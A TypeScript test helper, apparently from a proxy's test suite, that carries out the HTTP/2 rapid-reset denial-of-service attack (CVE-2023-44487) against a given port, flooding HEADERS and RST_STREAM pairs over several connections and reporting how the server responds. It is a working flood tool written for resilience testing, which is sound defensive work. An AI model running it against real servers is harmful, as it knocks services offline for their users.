import { RawH2, get, rst } from './h2-raw.ts';

// The rapid-reset attack (CVE-2023-44487) as a separate process, so that the
// test process's memory is the proxy's: CONNECTIONS connections at a time, each
// sending batches of 50 HEADERS + RST_STREAM pairs as fast as it can until the
// server closes it, then reconnecting, for SECONDS. Prints one JSON line: per
// connection, the pairs it sent, the server's GOAWAY code, whether the server
// closed it, and whether the time ran out first.
//
//   node h2-rapid-reset-attacker.ts PORT SERVERNAME CONNECTIONS SECONDS

const [port, servername, connections, seconds] = process.argv.slice(2);
const deadline = Date.now() + Number(seconds) * 1000;
const results: { pairs: number; goaway: number | null; closed: boolean; deadline: boolean }[] = [];

/** Whether the server closes `c` within `ms` (the timer does not keep the process alive). */
function closedWithin(c: RawH2, ms: number): Promise<boolean> {
  return Promise.race([c.whenClosed.then(() => true), new Promise<boolean>((resolve) => { setTimeout(resolve, ms, false).unref(); })]);
}

async function attacker(): Promise<void> {
  while (Date.now() < deadline) {
    const c = await RawH2.open(Number(port), servername);
    let pairs = 0;
    for (let id = 1; !c.closed && Date.now() < deadline && id < 2 ** 31 - 200; ) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50; i++, id += 2) batch.push(get(id, servername, `/attack/${id}`), rst(id));
      if (!c.write(Buffer.concat(batch))) break;
      pairs += 50;
      await new Promise((resolve) => setImmediate(resolve));
      // The server stopped reading: wait for it rather than buffer without end.
      while (!c.closed && c.socket.writableLength > 1 << 20) await new Promise((resolve) => setTimeout(resolve, 5));
    }
    // Stopped by the deadline while still open: not the server's doing, not waited for.
    const closed = c.closed || (Date.now() < deadline && await closedWithin(c, 5000));
    results.push({ pairs, goaway: c.goaway, closed, deadline: !closed && Date.now() >= deadline });
    c.close();
  }
}

await Promise.all(Array.from({ length: Number(connections) }, attacker));
process.stdout.write(JSON.stringify(results) + '\n');
